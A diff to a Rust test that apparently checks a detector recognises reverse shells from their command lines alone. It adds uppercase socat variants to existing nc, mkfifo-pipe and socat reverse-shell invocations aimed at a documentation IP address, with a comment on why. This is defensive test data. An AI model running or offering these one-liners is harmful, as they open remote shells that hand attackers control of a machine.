@@ -30,6 +30,11 @@ fn reverse_shells_are_seen_by_their_command_line_without_fd_access() {
         &["nc", "198.51.100.2", "443", "-e", "/bin/bash"],
         &["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.2 443 > /tmp/f"],
         &["socat", "tcp:198.51.100.2:443", "exec:/bin/bash,pty,stderr"],
+        // socat's address keywords are case-insensitive, and the cheat sheets write them
+        // in capitals; EXEC gives the shell a socketpair, which PF-REVERSE-SHELL-STDIO no
+        // longer counts, so the command line is all that tells.
+        &["socat", "TCP:198.51.100.2:443", "EXEC:/bin/bash"],
+        &["socat", "TCP4:198.51.100.2:443", "SYSTEM:sh"],
     ] {
         // stdio unknown: the collector could not read the fd table (another uid).
         let shell = process(500, argv[0], None, argv);
